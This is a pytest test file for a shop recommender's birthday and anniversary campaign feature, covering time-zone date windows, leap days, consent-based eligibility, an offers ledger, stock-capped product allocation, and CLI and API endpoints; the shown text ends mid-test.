"""Occasion campaigns: windows in each customer's time zone, eligibility, allocation, ledger, faces.

Real SQLite files in tmp_path, fixed dates, no mocks. Shops are built through
the store's own writers; the demo shop with a trained model comes from the
``served`` fixture.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import tempfile
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings as hsettings, strategies as st

from recommender import campaigns, store
from recommender.campaigns import CampaignRequest, occasions
from recommender.cli import cli

# Harmless once cli.py and create_app register these themselves.
from recommender.cli.campaign import campaign
from recommender.config import load_settings
from recommender.data import interactions
from recommender.errors import ConfigError, ValidationError
from recommender.models import registry
from recommender.models.factor import FactorModel
from recommender.serving import keys

if "campaign" not in cli.commands:
    cli.add_command(campaign)

CREATED = "2025-01-01T00:00:00Z"


# --- helpers -------------------------------------------------------------------------------


def make_shop(db, customers, *, products=None, marketing=None, personalization=(), events=()):
    """customers: (id, birth_date, anniversary_date, timezone); everyone has marketing consent unless told."""
    store.upsert_customers(
        db, [(cid, f"{cid.lower()}@example.com", f"Name {cid}", b, a, tz, CREATED) for cid, b, a, tz in customers]
    )
    if products is None:
        products = [(f"P{i}", f"Product {i}", "misc", 10.0, None, 0, None) for i in range(1, 11)]
    store.upsert_products(db, products)
    granted = {c[0]: True for c in customers} if marketing is None else marketing
    rows = [(cid, "marketing", g, CREATED, "test") for cid, g in granted.items()]
    rows += [(cid, "personalization", True, CREATED, "test") for cid in personalization]
    store.set_consents(db, rows)
    if events:
        store.upsert_interactions(db, events)


def popular_events(order, shoppers=("S1", "S2", "S3", "S4", "S5", "S6")):
    """Events making ``order`` the popularity ranking (first = bought by the most shoppers)."""
    out = []
    for rank, pid in enumerate(order):
        for s in shoppers[: len(shoppers) - rank]:
            out.append((s, pid, "view", 1.0, 1_750_000_000 + rank))
    return out


def shoppers(n=6):
    return [(f"S{i}", None, None, "UTC") for i in range(1, n + 1)]


def run(db, settings, *, dry_run=False, out=None, model=None, force=False, **request):
    request.setdefault("occasion", "birthday")
    return campaigns.run(db, settings, CampaignRequest(**request), dry_run=dry_run, out=out, model=model, force=force)


def window(dates, zones, **kw):
    at = occasions.run_instant(kw.pop("date", None), kw.pop("at", None))
    up = occasions.upcoming(dates, zones, at, **kw)
    return {int(r): (str(d), int(y)) for r, d, y in zip(up.rows, up.dates, up.years)}, up.skipped


def ledger(db):
    return [dict(r) for r in db.query("SELECT * FROM offers ORDER BY customer_id, occasion")]


# --- finding occasions -----------------------------------------------------------------------


def test_window_edges_are_inclusive():
    dates = ["1990-03-09", "1990-03-10", "1985-03-17", "1990-03-18"]
    found, _ = window(dates, ["UTC"] * 4, date="2026-03-10", days_ahead=7)
    assert found == {1: ("2026-03-10", 2026), 2: ("2026-03-17", 2026)}
    found, _ = window(dates, ["UTC"] * 4, date="2026-03-10", days_ahead=0)
    assert found == {1: ("2026-03-10", 2026)}


def test_window_across_the_new_year_counts_next_years_dates():
    dates = ["1990-12-28", "1990-12-31", "1990-01-01", "1990-01-05", "1990-01-06"]
    found, _ = window(dates, ["UTC"] * 5, date="2026-12-29", days_ahead=7)
    assert found == {1: ("2026-12-31", 2026), 2: ("2027-01-01", 2027), 3: ("2027-01-05", 2027)}


@pytest.mark.parametrize(
    "rule, run_date, expected",
    [
        ("feb28", "2028-02-29", "2028-02-29"),  # leap year: the day itself, whatever the rule
        ("mar1", "2028-02-29", "2028-02-29"),
        ("feb28", "2028-02-28", None),  # leap year: not on the 28th
        ("feb28", "2027-02-28", "2027-02-28"),
        ("feb28", "2027-03-01", None),
        ("mar1", "2027-02-28", None),
        ("mar1", "2027-03-01", "2027-03-01"),
    ],
)
def test_29_february_in_leap_and_non_leap_years(rule, run_date, expected):
    found, _ = window(["1992-02-29"], ["UTC"], date=run_date, days_ahead=0, feb29_rule=rule)
    assert found == ({0: (expected, int(expected[:4]))} if expected else {})


def test_time_zones_either_side_of_the_date_line():
    zones = ["Pacific/Kiritimati", "Pacific/Auckland", "Pacific/Honolulu", "Pacific/Pago_Pago"]
    # 10:30 UTC on 15 January: Kiritimati is on the 16th, Auckland and Honolulu on the 15th, Pago Pago on the 14th.
    found, _ = window(["1990-01-15"] * 4, zones, at="2026-01-15T10:30:00Z", days_ahead=0)
    assert sorted(found) == [1, 2]
    found, _ = window(["1990-01-16"] * 4, zones, at="2026-01-15T10:30:00Z", days_ahead=0)
    assert sorted(found) == [0]
    found, _ = window(["1990-01-14"] * 4, zones, at="2026-01-15T10:30:00Z", days_ahead=0)
    assert sorted(found) == [3]
    # --date means 12:00 UTC: Auckland and Kiritimati are already on the 16th, Hawaii and Samoa on the 15th.
    assert occasions.run_instant("2026-01-15") == dt.datetime(2026, 1, 15, 12, tzinfo=dt.UTC)
    found, _ = window(["1990-01-15"] * 4, zones, date="2026-01-15", days_ahead=0)
    assert sorted(found) == [2, 3]
    # The Auckland customer whose day has passed is found next year, not today.
    found, _ = window(["1990-01-15"] * 4, zones, date="2026-01-15", days_ahead=366)
    assert found[1] == ("2027-01-15", 2027) and found[2] == ("2026-01-15", 2026)


def test_a_campaign_uses_each_customers_own_date(db, settings):
    make_shop(
        db,
        [
            ("NZ", "1990-01-15", None, "Pacific/Auckland"),
            ("HI", "1990-01-15", None, "Pacific/Honolulu"),
            ("KI", "1990-01-16", None, "Pacific/Kiritimati"),
        ],
    )
    first = run(db, settings, date="2026-01-15", days_ahead=0)  # 12:00 UTC: Auckland is on the 16th
    assert sorted(o.customer_id for o in first.offers) == ["HI", "KI"]
    assert {o.customer_id: o.valid_from for o in first.offers} == {"HI": "2026-01-15", "KI": "2026-01-16"}
    earlier = run(db, settings, at="2026-01-15T10:30:00Z", days_ahead=0)  # Auckland 23:30 on the 15th
    assert [o.customer_id for o in earlier.offers] == ["NZ"]
    assert earlier.summary()["skipped"]["already_offered"] == 2  # HI and KI are on their day too


def test_missing_and_malformed_dates_and_unknown_zones_are_counted_not_fatal():
    dates = [None, "", "1991-02-29", "1990-13-01", "1990-1-01", "1990-06-01", "1990-06-01"]
    zones = ["UTC"] * 6 + ["Mars/Olympus_Mons"]
    found, skipped = window(dates, zones, date="2026-06-01", days_ahead=0)
    assert found == {5: ("2026-06-01", 2026)}
    assert skipped == {"missing_date": 2, "malformed_date": 3, "unknown_timezone": 1}


ALL_DAYS = [str(d) for d in np.arange(np.datetime64("1992-01-01"), np.datetime64("1993-01-01"))]
EXTREME_ZONES = [
    "Pacific/Kiritimati",
    "Pacific/Pago_Pago",
    "Pacific/Auckland",
    "Pacific/Honolulu",
    "UTC",
    "Etc/GMT+12",
    "Etc/GMT-14",
]


@hsettings(max_examples=60, deadline=None)
@given(
    st.datetimes(min_value=dt.datetime(2026, 1, 1), max_value=dt.datetime(2029, 12, 31)),
    st.integers(0, 40),
    st.sampled_from(occasions.FEB29_RULES),
)
def test_the_month_day_prefilter_never_drops_a_customer(naive, days_ahead, rule):
    """What the database is asked for (month-days near the run) loses no one the full scan finds."""
    instant = naive.replace(tzinfo=dt.UTC)
    dates = [d for d in ALL_DAYS for _ in EXTREME_ZONES]
    zones = EXTREME_ZONES * len(ALL_DAYS)
    full = occasions.upcoming(dates, zones, instant, days_ahead, rule)
    near = set(occasions.month_days_near(instant, days_ahead))
    keep = [i for i, d in enumerate(dates) if d[5:] in near]
    part = occasions.upcoming([dates[i] for i in keep], [zones[i] for i in keep], instant, days_ahead, rule)
    assert [keep[r] for r in part.rows] == full.rows.tolist()
    assert occasions.month_days_near(instant, 365) is None


def test_date_quality_is_counted_over_all_customers(db, settings):
    make_shop(
        db,
        [
            ("A", "1990-06-03", None, "UTC"),
            ("B", "1991-02-29", None, "UTC"),
            ("C", "1990-04-31", "1990-13-01", "UTC"),
            ("D", None, None, "UTC"),
            ("E", "1990-06-04", None, "Mars/Olympus_Mons"),
        ],
    )
    result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=7)
    assert [o.customer_id for o in result.offers] == ["A"]
    assert result.skipped["birthday"] == {
        "missing_date": 1,
        "malformed_date": 2,
        "unknown_timezone": 1,
        "no_marketing_consent": 0,
        "already_offered": 0,
        "no_products": 0,
    }
    assert result.skipped["anniversary"]["missing_date"] == 4
    assert result.skipped["anniversary"]["malformed_date"] == 1


def test_an_occasion_is_never_before_its_own_date():
    found, _ = window(["2026-06-03", "2025-06-03"], ["UTC", "UTC"], date="2026-06-01", days_ahead=7)
    assert found == {1: ("2026-06-03", 2026)}  # a wedding next week is not an anniversary yet


def test_bad_run_inputs_are_our_errors(db, settings):
    with pytest.raises(ValidationError, match="--date"):
        occasions.run_instant("2026-02-30")
    with pytest.raises(ValidationError, match="not both"):
        occasions.run_instant("2026-02-01", "2026-02-01T00:00:00Z")
    with pytest.raises(ValidationError, match="days ahead"):
        run(db, settings, date="2026-01-01", days_ahead=400)
    with pytest.raises(ValidationError, match="occasion"):
        run(db, settings, occasion="wedding", date="2026-01-01")
    settings.campaigns.feb29_rule = "feb30"
    with pytest.raises(ConfigError, match="feb29_rule"):
        run(db, settings, date="2026-01-01")


def test_a_million_customers_in_one_window():
    # Speed lives in scripts/bench_campaign.py; here: exactly the million birthdays that fall in each one's window.
    rng = np.random.default_rng(1)
    days = rng.integers(0, 365 * 50, size=1_000_000)
    dates = (np.datetime64("1950-01-01") + days).astype(str).tolist()
    zones = rng.choice(["Europe/London", "Pacific/Auckland", "America/New_York", "Asia/Tokyo"], 1_000_000).tolist()
    found, _ = window(dates, zones, date="2026-06-01", days_ahead=7)
    # The run instant is 2026-06-01 12:00 UTC: 13:00 in London (BST), 08:00 in New York (EDT), 21:00 in Tokyo,
    # all still 1 June; Auckland (NZST, UTC+12 in June) is at 00:00 on 2 June. A window is today and 7 more days.
    # Every birth year (1950-1999) is before 2026 and no window touches 29 February: a birthday is in the
    # window when its month and day are.
    june = {first: {f"06-{d:02d}" for d in range(first, first + 8)} for first in (1, 2)}
    in_window = {
        "Europe/London": june[1],
        "America/New_York": june[1],
        "Asia/Tokyo": june[1],
        "Pacific/Auckland": june[2],
    }
    expected = {
        row: (f"2026-{date[5:]}", 2026)
        for row, (date, zone) in enumerate(zip(dates, zones))
        if date[5:] in in_window[zone]
    }
    assert found == expected


# --- eligibility and the ledger -----------------------------------------------------------------


def test_run_makes_offers_with_codes_discounts_and_validity(db, settings):
    make_shop(
        db,
        [
            ("A", "1990-06-03", "2010-06-05", "UTC"),
            ("B", "1990-06-04", None, "Europe/London"),
            ("C", "1990-09-01", None, "UTC"),
            ("D", None, "2011-06-06", "UTC"),
        ],
    )
    result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=7)
    assert result.made() == {"birthday": 2, "anniversary": 1}
    # one live offer per customer: A's birthday comes first (campaigns.priority), their anniversary waits
    assert result.skipped["anniversary"]["lower_priority"] == 1
    rows = ledger(db)
    assert [(r["customer_id"], r["occasion"], r["occasion_year"]) for r in rows] == [
        ("A", "birthday", 2026),
        ("B", "birthday", 2026),
        ("D", "anniversary", 2026),
    ]
    a = next(o for o in result.offers if o.customer_id == "A" and o.occasion == "birthday")
    assert (a.discount, a.valid_from, a.valid_until, a.date) == (15.0, "2026-06-01", "2026-06-17", "2026-06-03")
    assert next(o for o in result.offers if o.occasion == "anniversary").discount == 10.0
    codes = [r["code"] for r in rows]
    assert len(set(codes)) == 3 and all(re.fullmatch(r"(BDAY|ANNV)(-[A-Z2-7]{4}){4}", c) for c in codes)
    assert sorted(codes) == sorted(o.code for o in result.offers)
    assert all(len(json.loads(r["products"])) == 3 for r in rows)
    decisions = list(db.query("SELECT * FROM decisions ORDER BY customer_id, endpoint"))
    assert [(d["customer_id"], d["endpoint"], d["mode"], d["reason"]) for d in decisions] == [
        ("A", "campaign:birthday", "non_personalized", "no_model"),
        ("B", "campaign:birthday", "non_personalized", "no_model"),
        ("D", "campaign:anniversary", "non_personalized", "no_model"),
    ]
    assert json.loads(decisions[0]["product_ids"]) == json.loads(rows[0]["products"])


def test_rerun_is_idempotent(db, settings):
    make_shop(db, [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 6)])
    first = run(db, settings, date="2026-06-01", days_ahead=7)
    before = store.counts(db)
    second = run(db, settings, date="2026-06-01", days_ahead=7)
    assert len(first.offers) == 5 and second.offers == []
    assert second.summary()["skipped"]["already_offered"] == 5
    assert store.counts(db)["offers"] == before["offers"] == 5
    assert store.counts(db)["decisions"] == before["decisions"]


def test_overlapping_windows_and_next_year(db, settings):
    make_shop(
        db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-10", None, "UTC"), ("N", "1990-01-02", None, "UTC")]
    )
    assert {o.customer_id for o in run(db, settings, date="2026-06-01", days_ahead=7).offers} == {"A"}
    later = run(db, settings, date="2026-06-03", days_ahead=7)
    assert {o.customer_id for o in later.offers} == {"B"} and later.summary()["skipped"]["already_offered"] == 1
    # Across the new year: one offer for January 2027, whichever run sees it first.
    assert [o.occasion_year for o in run(db, settings, date="2026-12-30", days_ahead=7).offers] == [2027]
    assert run(db, settings, date="2027-01-01", days_ahead=7).offers == []
    # A year later the same occasion is a new one.
    assert {o.customer_id for o in run(db, settings, date="2027-06-01", days_ahead=7).offers} == {"A"}
    assert [(r["customer_id"], r["occasion_year"]) for r in ledger(db)] == [
        ("A", 2026),
        ("A", 2027),
        ("B", 2026),
        ("N", 2027),
    ]


def test_consent_withdrawn_between_two_runs(db, settings):
    make_shop(
        db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-12", None, "UTC")], marketing={"A": True, "B": True}
    )
    assert {o.customer_id for o in run(db, settings, date="2026-06-01", days_ahead=7).offers} == {"A"}
    store.set_consents(db, [("B", "marketing", False, "2026-06-02T00:00:00Z", "preference_centre")])
    second = run(db, settings, date="2026-06-06", days_ahead=7)
    assert second.offers == [] and second.summary()["skipped"]["no_marketing_consent"] == 1
    assert [r["customer_id"] for r in ledger(db)] == ["A"]


def test_no_consent_recorded_means_no_offer(db, settings):
    make_shop(
        db,
        [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-03", None, "UTC"), ("C", "1990-06-03", None, "UTC")],
        marketing={"A": True, "B": False},
    )
    result = run(db, settings, date="2026-06-01", days_ahead=7)
    assert [o.customer_id for o in result.offers] == ["A"]
    assert result.summary()["skipped"]["no_marketing_consent"] == 2


def test_dry_run_writes_nothing_and_says_so(db, settings, tmp_path):
    make_shop(db, [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 4)])
    before = store.counts(db)
    result = run(db, settings, date="2026-06-01", days_ahead=7, dry_run=True, out=tmp_path / "preview.csv")
    assert len(result.offers) == 3 and store.counts(db) == before
    assert result.summary()["written"] is False and "dry run: nothing written to the ledger" in result.human()
    assert len((tmp_path / "preview.csv").read_text().splitlines()) == 4  # the file is still made
    assert len(run(db, settings, date="2026-06-01", days_ahead=7).offers) == 3  # and the real run still offers


def test_a_failed_run_leaves_no_half_campaign(db, settings, tmp_path):
    make_shop(db, [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 4)])
    (tmp_path / "not_a_folder").write_text("")
    with pytest.raises(ValidationError, match="cannot write"):
        run(db, settings, date="2026-06-01", days_ahead=7, out=tmp_path / "not_a_folder" / "offers.csv")
    assert store.counts(db)["offers"] == 0 and store.counts(db)["decisions"] == 0
    with pytest.raises(ValidationError, match=r"\.csv or \.jsonl"):
        run(db, settings, date="2026-06-01", days_ahead=7, out=tmp_path / "offers.xlsx")


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_export_columns(db, settings, tmp_path, suffix):
    make_shop(
        db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC"), ("C", None, "2000-06-04", "UTC")]
    )
    out = tmp_path / f"offers{suffix}"
    result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=7, items=2, out=out)
    assert result.summary()["out"] == str(out)
    if suffix == ".csv":
        with open(out, newline="", encoding="utf-8") as fh:
            reader = csv.DictReader(fh)
            assert tuple(reader.fieldnames) == campaigns.EXPORT_COLUMNS
            rows = list(reader)
        ids = [r["product_ids"].split("|") for r in rows]
        names = [r["product_names"].split("|") for r in rows]
    else:
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert all(tuple(r) == campaigns.EXPORT_COLUMNS for r in rows)
        ids, names = [r["product_ids"] for r in rows], [r["product_names"] for r in rows]
    assert len(rows) == 3 and {r["code"] for r in rows} == {r["code"] for r in ledger(db)}
    a = next(r for r in rows if r["customer_id"] == "A" and r["occasion"] == "birthday")
    assert (a["email"], a["name"], a["date"]) == ("a@example.com", "Name A", "2026-06-03")
    assert a["valid_from"] == "2026-06-01"
    assert float(a["discount"]) == 15.0 and a["valid_until"] == "2026-06-17"
    for group, labels in zip(ids, names):
        assert len(group) == 2 and labels == [f"Product {p[1:]}" for p in group]


# --- products and allocation ---------------------------------------------------------------------


def test_never_hidden_expired_out_of_stock_or_already_bought(db, settings):
    products = [
        ("P1", "Bought", "misc", 5.0, None, 0, None),
        ("P2", "Hidden", "misc", 5.0, None, 1, None),
        ("P3", "Gone", "misc", 5.0, 0, 0, None),
        ("P4", "Expires 4 June", "misc", 5.0, None, 0, "2026-06-04"),
        ("P5", "Fine", "misc", 5.0, None, 0, None),
        ("P6", "Fine too", "misc", 5.0, 9, 0, None),
        ("P7", "Also fine", "misc", 5.0, None, 0, None),
    ]
    events = popular_events(["P1", "P2", "P3", "P4", "P5", "P6", "P7"])
    events.append(("A", "P1", "purchase", 1.0, 1_750_000_000))
    make_shop(
        db,
        [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-06", None, "UTC")] + shoppers(),
        products=products,
        personalization=[f"S{i}" for i in range(1, 7)],
        events=events,
    )
    settings.campaigns.max_product_share = 1.0  # filters only: no spread rule
    result = run(db, settings, date="2026-06-01", days_ahead=7)
    got = {o.customer_id: o.product_ids for o in result.offers}
    assert got == {"A": ["P4", "P5", "P6"], "B": ["P1", "P5", "P6"]}  # P4 expires before B's birthday


def test_per_product_cap_and_round_robin(db, settings):
    """Two scarce bestsellers, room for two customers each: every customer gets exactly one of them."""
    products = [("P1", "Scarce", "misc", 5.0, 2, 0, None), ("P2", "Scarce too", "misc", 5.0, 2, 0, None)]
    products += [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(3, 9)]
    customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 5)]
    make_shop(
        db,
        customers + shoppers(),
        products=products,
        personalization=[f"S{i}" for i in range(1, 7)],
        events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]),
    )
    settings.campaigns.max_product_share = 1.0  # stock caps only: no spread rule
    result = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
    assert all(len(set(o.product_ids) & {"P1", "P2"}) == 1 for o in result.offers)
    assert all(o.product_ids[1] == "P3" for o in result.offers)  # the next best once both are full
    # --max-per-product caps every product, tracked stock or not.
    capped = run(db, settings, date="2026-06-01", days_ahead=7, items=3, max_per_product=1)
    counts: dict[str, int] = {}
    for o in capped.offers:
        for p in o.product_ids:
            counts[p] = counts.get(p, 0) + 1
    assert max(counts.values()) == 1 and len(counts) == 8
    # 8 product slots for 4 customers in rounds: two each, none left with three or none.
    assert [len(o.product_ids) for o in capped.offers] == [2, 2, 2, 2] and capped.summary()["short_offers"] == 4


def test_allocation_is_reproducible_for_the_same_run(db, settings):
    products = [(f"P{i}", f"Product {i}", "misc", 5.0, 3, 0, None) for i in range(1, 9)]
    customers = [(f"C{i:02d}", f"1990-06-{i:02d}", None, "UTC") for i in range(1, 9)]
    make_shop(
        db,
        customers + shoppers(),
        products=products,
        personalization=[f"S{i}" for i in range(1, 7)],
        events=popular_events([f"P{i}" for i in range(1, 9)]),
    )
    first = run(db, settings, date="2026-06-01", days_ahead=7, dry_run=True)
    again = run(db, settings, date="2026-06-01", days_ahead=7, dry_run=True)
    assert [o.product_ids for o in first.offers] == [o.product_ids for o in again.offers]
    assert [o.code for o in first.offers] != [o.code for o in again.offers]  # codes are never reused


def test_gift_categories_come_first_inside_the_price_band(db, settings):
    products = [
        ("P1", "Cheap toy", "toys", 8.0, None, 0, None),
        ("P2", "Dear toy", "toys", 80.0, None, 0, None),
        ("P3", "Mug", "kitchen", 9.0, None, 0, None),
        ("P4", "Pan", "kitchen", 12.0, None, 0, None),
        ("P5", "Lamp", "home", 200.0, None, 0, None),
    ]
    make_shop(
        db,
        [("A", "1990-06-03", None, "UTC")] + shoppers(),
        products=products,
        personalization=[f"S{i}" for i in range(1, 7)],
        events=popular_events(["P5", "P4", "P3", "P2", "P1"]),
    )
    settings.campaigns.birthday_categories = ("toys",)
    settings.campaigns.max_price = 50.0
    result = run(db, settings, date="2026-06-01", days_ahead=7)
    assert result.offers[0].product_ids == ["P1", "P4", "P3"]


def test_personalized_offers_from_the_trained_model(served):
    db = store.connect(served.db)
    model = registry.Registry(served.model_dir).load()
    result = run(db, served, occasion="all", date="2026-06-01", days_ahead=30, dry_run=True)
    modes = result.summary()["modes"]
    assert modes["personalized"] > 20 and modes["non_personalized"] > 0
    consent = store.consented_among(db, [o.customer_id for o in result.offers], "personalization")
    earliest = min(o.date for o in result.offers)
    rows = {r["id"]: r for r in store.all_products(db)}
    allow = np.array(
        [
            not rows[p]["hidden"] and rows[p]["in_stock"] != 0 and (rows[p]["available_until"] or "9999") >= earliest
            for p in model.item_ids
        ]
    )
    for o in result.offers:
        assert (o.mode == "personalized") == (o.reason is None)
        if o.customer_id not in consent:
            assert o.reason == "no_consent"
        bought = {p for p, e, _, _ in store.customer_events(db, o.customer_id) if e == "purchase"}
        assert not bought & set(o.product_ids)
        assert all(
            not rows[p]["hidden"] and rows[p]["in_stock"] != 0 and (rows[p]["available_until"] or "9999") >= o.date
            for p in o.product_ids
        )
        if o.mode == "personalized":
            # The first pick comes from the customer's own ranking (its depth is 4k + 8), folded in from
            # their current history as the storefront does.
            items, conf = interactions.customer_confidences(
                db, served, o.customer_id, model.item_index, model.manifest["data"]["reference_time"]
            )
            top, _ = model.recommend(
                model.recalculate_user(items, conf),
                4 * 3 + 8,
                exclude=np.array([model.item_index[p] for p in bought], dtype=np.int64),
                allow=allow,
            )
            assert model.item_index[o.product_ids[0]] in set(top.tolist())


@hsettings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.sampled_from([True, False, None]), min_size=8, max_size=8),
    st.lists(st.booleans(), min_size=8, max_size=8),
)
def test_no_customer_without_marketing_consent_ever_gets_an_offer(marketing, personal):
    with tempfile.TemporaryDirectory() as tmp:
        settings = load_settings(environ={}, overrides={"db": Path(tmp) / "shop.db", "model_dir": Path(tmp) / "m"})
        db = store.connect(settings.db, create=True)
        ids = [f"C{i}" for i in range(8)]
        make_shop(
            db,
            [(c, f"1990-06-0{i + 2}", f"2001-06-0{i + 2}", "Pacific/Auckland") for i, c in enumerate(ids)],
            marketing={c: g for c, g in zip(ids, marketing) if g is not None},
            personalization=[c for c, p in zip(ids, personal) if p],
            events=[(c, f"P{i % 10 + 1}", "view", 1.0, 1_750_000_000) for i, c in enumerate(ids)],
        )
        rng = np.random.default_rng(0)
        model = FactorModel(
            rng.random((8, 4), np.float32),
            rng.random((10, 4), np.float32),
            ids,
            [f"P{i}" for i in range(1, 11)],
            1.0,
            {"version": "test"},
        )
        result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=10, model=model)
        allowed = {c for c, g in zip(ids, marketing) if g}
        assert {o.customer_id for o in result.offers} == allowed
        assert {r["customer_id"] for r in ledger(db)} == allowed
        assert {o.mode for o in result.offers if o.customer_id in allowed and personal[ids.index(o.customer_id)]} <= {
            "personalized"
        }
        db.conn.close()


# --- the faces --------------------------------------------------------------------------------------


def test_cli_help_run_and_errors(runner, db, settings, tmp_path):
    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC")])
    assert runner.invoke(cli, ["campaign", "--help"]).exit_code == 0
    help_text = runner.invoke(cli, ["campaign", "run", "--help"]).output
    assert "--days-ahead" in help_text and "--max-per-product" in help_text and "--dry-run" in help_text
    bad = runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-13-01"])
    assert bad.exit_code != 0 and len(bad.output.strip().splitlines()) == 1 and "--date" in bad.output
    dry = runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--dry-run"])
    assert dry.exit_code == 0 and "dry run: nothing written to the ledger" in dry.output
    out = tmp_path / "offers.jsonl"
    real = runner.invoke(
        cli,
        [
            "campaign",
            "run",
            "--occasion",
            "all",
            "--date",
            "2026-06-01",
            "--days-ahead",
            "3",
            "--items",
            "2",
            "--out",
            str(out),
            "--json",
        ],
    )
    assert real.exit_code == 0, real.output
    summary = json.loads(real.output)
    assert summary["offers"] == {"birthday": 2, "anniversary": 0} and summary["written"] is True
    assert len(out.read_text().splitlines()) == 2 and store.counts(db)["offers"] == 2
    again = json.loads(
        runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--json"]).output
    )
    assert again["offers_total"] == 0 and again["skipped"]["already_offered"] == 2


def test_cron_script_runs_the_same_job(db, settings, capsys):
    import importlib.util

    path = Path(__file__).parent.parent / "scripts" / "run_campaign.py"
    spec = importlib.util.spec_from_file_location("run_campaign", path)
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    make_shop(db, [("A", "1990-06-03", None, "UTC")])
    assert script.main(["--db", str(settings.db), "--date", "2026-06-01", "--occasion", "birthday"]) == 0
    assert json.loads(capsys.readouterr().out)["offers"] == {"birthday": 1}
    assert script.main(["--db", str(settings.db), "--date", "June 1st"]) == 1
    assert json.loads(capsys.readouterr().out.splitlines()[0])["status"] == "error"


from api.offers import CampaignPreview, OfferList  # noqa: E402


@pytest.fixture
def offers_client(app):
    from api import offers

    if "offers" not in app.blueprints:
        app.register_blueprint(offers.bp)
    return app.test_client()


def test_api_active_offers_for_a_storefront(offers_client, served):
    db = store.connect(served.db)
    today = dt.datetime.now(dt.UTC).date()
    result = run(db, served, occasion="all", date=today.isoformat(), days_ahead=7)
    offer = next(o for o in result.offers if o.valid_from <= today.isoformat())
    body = offers_client.get(f"/v1/customers/{offer.customer_id}/offers?date={today.isoformat()}").get_json()
    OfferList.model_validate(body)  # the documented schema is what is served
    assert body["customer_id"] == offer.customer_id and body["on"] == today.isoformat()
    shown = next(o for o in body["offers"] if o["code"] == offer.code)
    assert [p["product_id"] for p in shown["products"]] == offer.product_ids
    assert [p["name"] for p in shown["products"]] == offer.product_names
    assert offers_client.get(f"/v1/customers/{offer.customer_id}/offers?date=2020-01-01").get_json()["offers"] == []
    # Withdrawing marketing consent hides offers already made.
    store.set_consents(db, [(offer.customer_id, "marketing", False, store.utcnow(), "preference_centre")])
    assert offers_client.get(f"/v1/customers/{offer.customer_id}/offers").get_json()["offers"] == []
    assert offers_client.get("/v1/customers/NOBODY/offers").get_json()["offers"] == []
    bad = offers_client.get(f"/v1/customers/{offer.customer_id}/offers?date=tomorrow")
    assert bad.status_code == 422 and bad.get_json()["error"]["code"] == "invalid_input"


def test_api_campaign_preview_needs_admin_and_writes_nothing(offers_client, served):
    db = store.connect(served.db)
    before = store.counts(db)
    body = {"occasion": "birthday", "date": "2026-06-01", "days_ahead": 14, "items": 2, "limit": 5}
    response = offers_client.post("/v1/admin/campaigns/preview", json=body)
    assert response.status_code == 200, response.get_json()
    preview = response.get_json()
    CampaignPreview.model_validate(preview)
    assert preview["summary"]["dry_run"] is True and preview["summary"]["offers_total"] > 5
    assert len(preview["offers"]) == 5 and all(len(o["product_ids"]) == 2 for o in preview["offers"])
    assert store.counts(db)["offers"] == before["offers"] and store.counts(db)["decisions"] == before["decisions"]
    assert offers_client.post("/v1/admin/campaigns/preview", json={**body, "occasion": "wedding"}).status_code == 422
    assert offers_client.post("/v1/admin/campaigns/preview", json={**body, "date": "1 June"}).status_code == 422
    spec = offers_client.get("/openapi.json").get_json()
    assert "/v1/customers/{customer_id}/offers" in spec["paths"] and "/v1/admin/campaigns/preview" in spec["paths"]
    _, read_key = keys.create(db, "read", "shop")
    _, admin_key = keys.create(db, "admin", "ops")
    offers_client.application.extensions["recommender_auth"]["open"] = False  # an app served without --open
    assert offers_client.post("/v1/admin/campaigns/preview", json=body).status_code == 401
    reader, admin = {"Authorization": f"Bearer {read_key}"}, {"Authorization": f"Bearer {admin_key}"}
    assert offers_client.post("/v1/admin/campaigns/preview", json=body, headers=reader).status_code == 403
    assert offers_client.get("/v1/customers/C0001/offers", headers=reader).status_code == 200
    assert offers_client.post("/v1/admin/campaigns/preview", json=body, headers=admin).status_code == 200


# --- stock over time, caps in the summary, the spread rule -------------------------------------------------


def offered_units(db):
    units: dict[str, int] = {}
    for r in ledger(db):
        for p in json.loads(r["products"]):
            units[p] = units.get(p, 0) + 1
    return units


def test_stock_caps_hold_across_runs_on_consecutive_days(db, settings):
    """P1 (the bestseller) has 2 units: day 1 promises both, day 2 none, after the codes expire it is free again."""
    products = [("P1", "Scarce", "misc", 5.0, 2, 0, None)]
    products += [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(2, 7)]
    customers = [
        ("C1", "1990-06-01", None, "UTC"),
        ("C2", "1990-06-01", None, "UTC"),
        ("C3", "1990-06-01", None, "UTC"),
        ("D1", "1990-06-02", None, "UTC"),
        ("D2", "1990-06-02", None, "UTC"),
        ("E1", "1990-07-01", None, "UTC"),
    ]
    make_shop(
        db,
        customers + shoppers(),
        products=products,
        personalization=[f"S{i}" for i in range(1, 7)],
        events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]),
    )
    settings.campaigns.max_product_share = 1.0  # stock only
    day1 = run(db, settings, date="2026-06-01", days_ahead=0, items=1)
